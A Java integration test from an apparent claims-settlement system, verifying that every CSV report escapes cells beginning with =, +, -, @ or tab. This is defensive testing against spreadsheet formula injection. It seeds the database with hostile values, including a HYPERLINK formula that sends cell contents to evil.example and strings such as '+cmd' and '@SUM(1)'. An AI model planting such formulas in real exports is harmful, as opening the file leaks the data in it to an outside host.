package com.aobsettlement.reconciliation;

import static org.assertj.core.api.Assertions.assertThat;

import com.aobsettlement.support.Cli;
import com.aobsettlement.support.TestDatabase;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * DOMAIN.md §3: no input path puts a formula into a report. Text that reached the books before the
 * importers refused it (written here by SQL: claim numbers, payer codes, EFT traces, exception rows
 * beginning with = + - @ or TAB) goes through every report file of the settlement runs and the month
 * end, and every text cell that begins like a formula comes out with a leading ' (amounts such as
 * -50.00 stay numbers).
 */
class FormulaInReportsIT {
    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")";

    @Test
    void hostileTextIsGuardedInEveryReportFile(@TempDir Path work) {
        try (TestDatabase db = TestDatabase.mariadb()) {
            Cli cli = new Cli(db.settings(work));
            MonthEndScenario.SCENARIO.importAll(cli);
            cli.ok("import", "deposits", MonthEndScenario.SCENARIO.input("deposits.csv").toString());
            MonthEndScenario.insertEraPayments(db.jdbc(), MonthEndScenario.SCENARIO.input("era_payments.csv"));
            JdbcTemplate jdbc = db.jdbc();
            long first = jdbc.queryForObject("SELECT MIN(id) FROM claims", Long.class);
            jdbc.update("UPDATE claims SET claim_number = CONCAT(ELT(1 + id % 5, '=', '+', '-', '@', '\t'), claim_number) "
                    + "WHERE id <> ?", first);
            jdbc.update("UPDATE claims SET claim_number = ? WHERE id = ?", HYPERLINK, first);
            for (String table : new String[] {"payers", "fee_schedule", "claims"}) {
                jdbc.update("UPDATE " + table + " SET payer_code = CONCAT('@', payer_code)");
            }
            jdbc.update("INSERT INTO era_payments (eft_trace, payer_code, era_payer_id, amount, paid_on, source_file, "
                    + "source_ref, file_sha256, job_execution_id) VALUES ('-1+1', NULL, 'X', 12.34, '2026-11-05', 'test.835', "
                    + "'test.835:-1+1', ?, 0)", "0".repeat(64));
            jdbc.update("INSERT INTO exceptions (source, record_ref, reason_code, message, created_at) "
                    + "VALUES ('=1+1', '+cmd', 'INVALID_FIELD', '@SUM(1)', NOW(6))");

            for (String date : MonthEndScenario.SETTLE_DATES) {
                cli.ok("settle", "--date", date);
            }
            cli.ok("reconcile", "--month", "2026-11", "--preview");

            Map<String, List<String>> cells = cellsOfEveryReport(work.resolve("reports"));
            assertThat(cells.keySet()).contains("daily/2026-11-10/settlements.csv", "daily/2026-11-10/disputes.csv",
                    "daily/2026-11-10/exceptions.csv", "daily/2026-11-10/provider_totals.csv", "monthly/2026-11/aging.csv",
                    "monthly/2026-11/unmatched.csv", "monthly/2026-11/disputes_due.csv",
                    "monthly/2026-11/provider_statements.csv", "monthly/2026-11/reconciliation.csv");
            cells.forEach((file, values) -> assertThat(values).as(file)
                    .noneMatch(v -> !v.isEmpty() && "=+-@\t\r".indexOf(v.charAt(0)) >= 0 && !v.matches("-\\d+(\\.\\d+)?")));
            for (String file : new String[] {"daily/2026-11-10/settlements.csv", "daily/2026-11-10/disputes.csv",
                "monthly/2026-11/disputes_due.csv"}) {
                assertThat(cells.get(file)).as(file).anyMatch(v -> v.startsWith("'=") || v.startsWith("'+")
                        || v.startsWith("'@") || v.startsWith("'\t") || v.startsWith("'-"));
            }
            assertThat(cells.get("daily/2026-11-10/settlements.csv")).contains("'" + HYPERLINK);
            assertThat(cells.get("daily/2026-11-10/exceptions.csv")).contains("'=1+1", "'+cmd", "'@SUM(1)");
            assertThat(cells.get("monthly/2026-11/aging.csv")).anyMatch(v -> v.startsWith("'@"));
            assertThat(cells.get("monthly/2026-11/unmatched.csv")).contains("'-1+1");
            // negative amounts stay numbers
            assertThat(cells.values().stream().flatMap(List::stream)).anyMatch(v -> v.matches("-\\d+\\.\\d\\d"));
        }
    }

    /** Every cell of every CSV under the reports folder (header rows included), by path relative to it. */
    static Map<String, List<String>> cellsOfEveryReport(Path reports) {
        Map<String, List<String>> cells = new TreeMap<>();
        try (Stream<Path> files = Files.walk(reports)) {
            for (Path file : files.filter(f -> f.toString().endsWith(".csv")).toList()) {
                List<String> values = new ArrayList<>();
                try (CsvReader<CsvRecord> reader = CsvReader.builder().ofCsvRecord(file)) {
                    reader.forEach(r -> values.addAll(r.getFields()));
                }
                cells.put(reports.relativize(file).toString(), values);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return cells;
    }
}
